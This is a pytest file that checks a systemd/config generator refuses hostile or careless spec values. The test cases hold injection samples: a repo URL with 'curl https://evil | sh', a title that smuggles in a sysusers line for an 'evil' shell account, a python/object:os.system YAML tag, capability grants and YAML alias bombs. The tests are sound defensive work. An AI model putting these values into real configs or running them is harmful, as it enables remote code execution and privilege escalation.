"""Hostile and careless spec values: each gives exit 2, a message located at the value, and
leaves build/ as it was (issue "Safe on any spec", reproductions 1-4 and 8).

Each case edits one file of a copy of the repo's own spec/, renders it with the real CLI
into a build/ folder that already holds a tree, and checks the message and that the old
tree is untouched. The expected line is found in the edited text, so a message pointing
elsewhere fails the test.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import REPO, line_of, run_cli, tree_bytes

from generator import treesize
from generator.cli import main

BIG = "x" * 500_000
# (case id, spec file, old text, new text, marker of the reported line, dotted path, message regex)
CASES = [
    ("logs-in-etc", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /etc", "logs_dir:",
     "project.logs_dir", r"/etc is a system folder.*e\.g\. /var/log/zachot"),
    ("logs-var-log", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /var/log", "logs_dir:",
     "project.logs_dir", r"/var/log is a system folder"),
    ("logs-slash", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /", "logs_dir:",
     "project.logs_dir", r"/ is a system folder"),
    ("logs-other-package", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /var/log/nginx", "logs_dir:",
     "project.logs_dir", r"named after the project 'zachot'"),
    ("logs-hold-the-venv", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /opt/zachot", "logs_dir:",
     "project.logs_dir", r"holds project\.venv"),
    ("logs-as-unit-drop-in", "project.yaml", "logs_dir: /opt/zachot/logs",
     "logs_dir: /etc/systemd/system/zachot-api.service.d", "logs_dir:", "project.logs_dir",
     r"neither below project\.root nor in a folder named after the project"),
    ("root-in-systemd", "project.yaml", "root: /opt/zachot", "root: /etc/systemd/system/zachot", "root:",
     "project.root", r"not a folder named after the project"),
    ("logs-inside-the-venv", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /opt/zachot/envs/prod/bin",
     "logs_dir:", "project.logs_dir", r"lies inside project\.venv"),
    ("logs-in-a-hidden-folder", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /var/lib/zachot/.ssh",
     "logs_dir:", "project.logs_dir", r"hidden folder"),
    ("logs-in-home", "project.yaml", "logs_dir: /opt/zachot/logs", "logs_dir: /home/zachot", "logs_dir:",
     "project.logs_dir", r"/home"),
    ("group-docker", "project.yaml", "group: zachot", "group: docker", "group: docker", "project.group",
     r"account of the base system or a package"),
    ("project-named-pam", "project.yaml", "name: zachot", "name: pam", "name: pam", "project.name",
     r"'pam' is a name the base system or a package uses"),
    ("project-named-logrotate", "project.yaml", "name: zachot", "name: logrotate", "name: logrotate",
     "project.name", r"a name the base system or a package uses"),
    ("queue-injects-an-option", "services.yaml", "queues: [default]", 'queues: [default, --processes, "64"]',
     "queues:", "runner.queues[1]", r"should match pattern"),
    ("long-module-name", "services.yaml", "module: app.actors", "module: app." + "c" * 300, "module: app.",
     "runner.module", r"at most 255 characters"),
    ("long-script-name", "healthchecks.yaml", "script: app/healthchecks/redis_check.py", "script: app/" + "b" * 300,
     "script: app/bbb", ".script", r"255 per folder or file name"),
    ("env-in-etc", "project.yaml", "env_file: /opt/zachot/envs/prod/etc/zachot.env", "env_file: /etc/zachot.env",
     "env_file:", "project.env_file", r"/etc is a system folder.*/etc/zachot/zachot\.env"),
    ("env-in-systemd", "project.yaml", "env_file: /opt/zachot/envs/prod/etc/zachot.env",
     "env_file: /etc/systemd/zachot.env", "env_file:", "project.env_file", r"/etc/systemd is a system folder"),
    ("venv-usr", "project.yaml", "venv: /opt/zachot/envs/prod", "venv: /usr/local/zachot", "venv:",
     "project.venv", r"belongs to the operating system"),
    ("root-opt", "project.yaml", "root: /opt/zachot", "root: /opt", "root:", "project.root", r"system folder"),
    ("path-trailing-newline", "project.yaml", "root: /opt/zachot", 'root: "/opt/zachot\\n"', "root:",
     "project.root", r"may only contain"),
    ("title-injects-sysusers-line", "project.yaml", "title: zachot",
     'title: "x\\" /bin/sh\\nu evil - \\"e\\" / /bin/bash\\n#"', "title:", "project.title", r"one line"),
    ("repo-url-shell", "project.yaml", "repo_url: https://github.com/zachot/zachot",
     'repo_url: "https://x; curl https://evil | sh"', "repo_url:", "project.repo_url", r"repository URL"),
    ("user-www-data", "project.yaml", "user: zachot", "user: www-data", "user: www-data", "project.user",
     r"is an account of the base system or a package"),
    ("project-named-systemd", "project.yaml", "name: zachot", "name: systemd", "name: systemd", "project.name",
     r"tmpfiles\.d/systemd\.conf would mask"),
    ("unit-sshd", "services.yaml", "unit: zachot-api", "unit: sshd", "unit: sshd", "services.api.unit",
     r"could replace the system's own"),
    ("capability-grant", "services.yaml", "    hardening:\n", "    hardening:\n      exceptions:\n        "
     "AmbientCapabilities: {value: CAP_DAC_OVERRIDE CAP_NET_BIND_SERVICE, reason: read every file}\n",
     "AmbientCapabilities:", "AmbientCapabilities.value", r"CAP_DAC_OVERRIDE would let the service user act as root"),
    ("inverted-bounding-set", "services.yaml", "    hardening:\n", "    hardening:\n      exceptions:\n        "
     "CapabilityBoundingSet: {value: ~CAP_SYS_MODULE, reason: keep all but one}\n",
     "CapabilityBoundingSet:", "CapabilityBoundingSet.value", r"~CAP_SYS_MODULE would let"),
    ("sexagesimal", "services.yaml", "delay_sec: 5", "delay_sec: 1:30", "delay_sec: 1:30",
     "services.api.restart.delay_sec", r"'1:30' is a number in YAML 1\.1 and text in YAML 1\.2"),
    ("octal-looking", "services.yaml", "delay_sec: 5", "delay_sec: 010", "delay_sec: 010", ".delay_sec",
     r"'010' is 8 \(octal\) in YAML 1\.1 and 10 in YAML 1\.2"),
    ("not-octal-digits", "services.yaml", "port: 8000", "port: 08000", "port: 08000", "services.api.runner.port",
     r"'08000' is text in YAML 1\.1 and a number in YAML 1\.2"),
    ("policy-no", "services.yaml", "policy: always", "policy: no", "policy: no", ".restart.policy",
     r"'no' is a boolean in YAML 1\.1 and text in YAML 1\.2; quote it"),
    ("flag-yes", "logging.yaml", "compress: true", "compress: yes", "compress: yes", ".compress",
     r"'yes' is a boolean in YAML 1\.1"),
    ("flag-one", "logging.yaml", "compress: true", "compress: 1", "compress: 1", ".compress", r"valid boolean"),
    ("bad-date", "services.yaml", "delay_sec: 5", "delay_sec: 2024-02-30", "2024-02-30",
     "services.api.restart.delay_sec", r"a date in YAML 1\.1"),
    ("int-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!int abc", "!!int", "services.api.restart.delay_sec",
     r"not a valid !!int"),
    ("float-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!float abc", "!!float", ".delay_sec",
     r"not a valid !!float"),
    ("bool-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!bool maybe", "!!bool", ".delay_sec",
     r"not a valid !!bool"),
    ("timestamp-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!timestamp nope", "!!timestamp", ".delay_sec",
     r"tag '!!timestamp' is not supported"),
    ("python-tag", "services.yaml", "delay_sec: 5", "delay_sec: !!python/object:os.system x", "!!python", ".delay_sec",
     r"not supported"),
    ("set-tag", "services.yaml", "in_memory_state:", "in_memory_state: !!set\n      ? a\n    xx:", "!!set",
     "in_memory_state", r"tag '!!set' is not supported"),
    ("huge-int", "services.yaml", "delay_sec: 5", "delay_sec: " + "9" * 5000, "delay_sec: 999",
     ".delay_sec", r"an integer of 5000 digits"),
    ("overflow-float", "services.yaml", "delay_sec: 5", "delay_sec: 1e309", "1e309", ".delay_sec", r"infinity"),
    ("nan", "services.yaml", "delay_sec: 5", "delay_sec: .nan", ".nan", ".delay_sec", r"finite number"),
    ("nul-escape", "services.yaml", "title: API", 'title: "A\\0PI"', "A\\0PI", "services.api.title",
     r"control character"),
    ("nul-raw", "services.yaml", "title: API", "title: A\x00PI", "A\x00PI", "", r"U\+0000 is not allowed"),
    ("deep-list", "backup.yaml", "  philosophy:\n", "  philosophy:\n    - " + "[" * 500 + "]" * 500 + "\n",
     "[[[", "", r"nest deeper than 64 levels"),
    ("recursive-alias", "backup.yaml", "  philosophy:\n", "  philosophy:\n    - &self [*self]\n", "&self", "",
     r"aliases nest lists and mappings deeper than 64"),
    ("placeholder-amplification", "backup.yaml", "  goal: ", "  goal: " + "${repo_url}" * 3000 + " ", "goal:",
     "backup.goal", r"placeholders expand it to \d+ characters"),
    ("alias-amplification", "backup.yaml", "  philosophy:\n",
     "  philosophy:\n    - &big " + BIG + "\n" + "    - *big\n" * 1000, "&big", "",
     r"aliases repeat more than 1048576 bytes"),
]  # fmt: skip


@pytest.fixture
def work(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the repo's spec/ (pointing at this checkout) and a rendered build/ beside it."""
    shutil.copytree(REPO / "spec", tmp_path / "spec")
    project = tmp_path / "spec" / "project.yaml"
    project.write_text(project.read_text().replace("source: ..", f"source: {REPO}"))
    monkeypatch.chdir(tmp_path)
    assert CliRunner().invoke(main, ["render"]).exit_code == 0
    return tmp_path


@pytest.mark.parametrize(
    ("file", "old", "new", "marker", "path", "message"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_hostile_value_is_refused_where_it_is_written(
    work: Path, file: str, old: str, new: str, marker: str, path: str, message: str
) -> None:
    target = work / "spec" / file
    text = target.read_text()
    assert old in text, "the repo spec changed; update the case"
    text = text.replace(old, new, 1)
    target.write_text(text)
    before = tree_bytes(work / "build")
    result = CliRunner().invoke(main, ["render"])
    assert result.exit_code == 2, result.output
    assert isinstance(result.exception, SystemExit), repr(result.exception)
    lines = [ln for ln in result.output.splitlines() if not ln.startswith("zachot-gen: ")]
    located = rf"^spec/{re.escape(file)}:{line_of(text, marker)}:\d+: (\S*{re.escape(path)}: )?.*{message}"
    assert any(re.search(located, ln) for ln in lines), result.output
    assert tree_bytes(work / "build") == before


def test_check_and_validate_refuse_the_same(work: Path) -> None:
    """The policy lives in the loader, so every command refuses, not only render."""
    project = work / "spec" / "project.yaml"
    project.write_text(project.read_text().replace("logs_dir: /opt/zachot/logs", "logs_dir: /etc"))
    for command in ("check", "validate"):
        result = run_cli(command, cwd=work)
        assert result.returncode == 2, (command, result.stderr)
        assert "project.logs_dir: /etc is a system folder" in result.stderr
        assert "Traceback" not in result.stderr


def test_project_folders_of_other_shapes_are_accepted(work: Path) -> None:
    """/var/log/<name>, /etc/<name>/<file>, a state folder in /var/lib/<name>: the project's own."""
    project = work / "spec" / "project.yaml"
    text = project.read_text().replace("logs_dir: /opt/zachot/logs", "logs_dir: /var/log/zachot")
    project.write_text(text.replace("/opt/zachot/envs/prod/etc/zachot.env", "/etc/zachot/zachot.env"))
    result = CliRunner().invoke(main, ["render"])
    assert result.exit_code == 0, result.output
    tmpfiles = (work / "build/staging/root/etc/tmpfiles.d/zachot.conf").read_text()
    assert "d /var/log/zachot 0750 zachot zachot -" in tmpfiles
    assert "d /etc/zachot 0750 root zachot -" in tmpfiles


def test_rendered_tree_over_the_bound_is_refused_at_the_longest_value(
    work: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The last guard: with the bound lowered below the real tree's size, render refuses and
    points at the spec's longest text; build/ is untouched."""
    monkeypatch.setattr(treesize, "BASE_BYTES", 1000)
    monkeypatch.setattr(treesize, "BYTES_PER_SPEC_BYTE", 0)
    monkeypatch.setattr(treesize, "BYTES_PER_ENTRY", 0)
    before = tree_bytes(work / "build")
    result = CliRunner().invoke(main, ["render"])
    assert result.exit_code == 2, result.output
    assert re.search(r"^spec/\S+\.yaml:\d+:\d+: \S+: the rendered tree would be \d+ bytes", result.output, re.M)
    assert tree_bytes(work / "build") == before


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("/var/log/zachot", True), ("/var/lib/zachot-api/state", True), ("/etc/zachot", True),
        ("/run/zachot", True), ("/srv/zachot", True), ("/data/zachot", True), ("/zachot/logs", True),
        ("/opt/zachot/logs", True), ("/home/zachot", False), ("/etc/pam.d", False), ("/etc/zachot.d", False),
        ("/", False), ("/etc", False), ("/var/log", False), ("/var/lib", False), ("/opt", False),
        ("/var/log/nginx", False), ("/var/log/nginx/zachot", False), ("/data/x/zachot", False),
        ("/etc/systemd/system/zachot-api.service.d", False), ("/run/systemd/system/zachot.service.d", False),
        ("/etc/cron.d/zachot", False), ("/usr/local/zachot", False), ("/tmp/zachot", False),
        ("/root/zachot", False), ("/boot/zachot", False), ("/var/tmp/zachot", False),
    ],
)  # fmt: skip
def test_path_policy_table(path: str, own: bool) -> None:
    """Rules 1-4 of generator.pathpolicy on the repo spec's project (root /opt/zachot)."""
    from generator import load_spec
    from generator.pathpolicy import project_dir_problem

    project = load_spec(REPO / "spec").project
    assert (project_dir_problem(path, project) is None) is own, project_dir_problem(path, project)


def test_placeholders_are_bounded_for_the_whole_spec(work: Path) -> None:
    """Many values each under the per-value bound still cannot add more than the spec-wide one."""
    from generator.loader import MAX_TOTAL_EXPANDED_CHARS

    project = work / "spec" / "project.yaml"
    url = "https://github.com/zachot/" + "a" * 1974  # a 2000-character fact
    project.write_text(project.read_text().replace("https://github.com/zachot/zachot", url))
    backup = work / "spec" / "backup.yaml"
    item = "    - " + "${repo_url}" * 30 + "\n"  # 60 000 characters once expanded: under the per-value bound
    count = MAX_TOTAL_EXPANDED_CHARS // 60_000 + 10
    backup.write_text(backup.read_text().replace("  philosophy:\n", "  philosophy:\n" + item * count, 1))
    result = CliRunner().invoke(main, ["render"])
    assert result.exit_code == 2, result.output
    assert "for the whole spec are allowed" in result.output
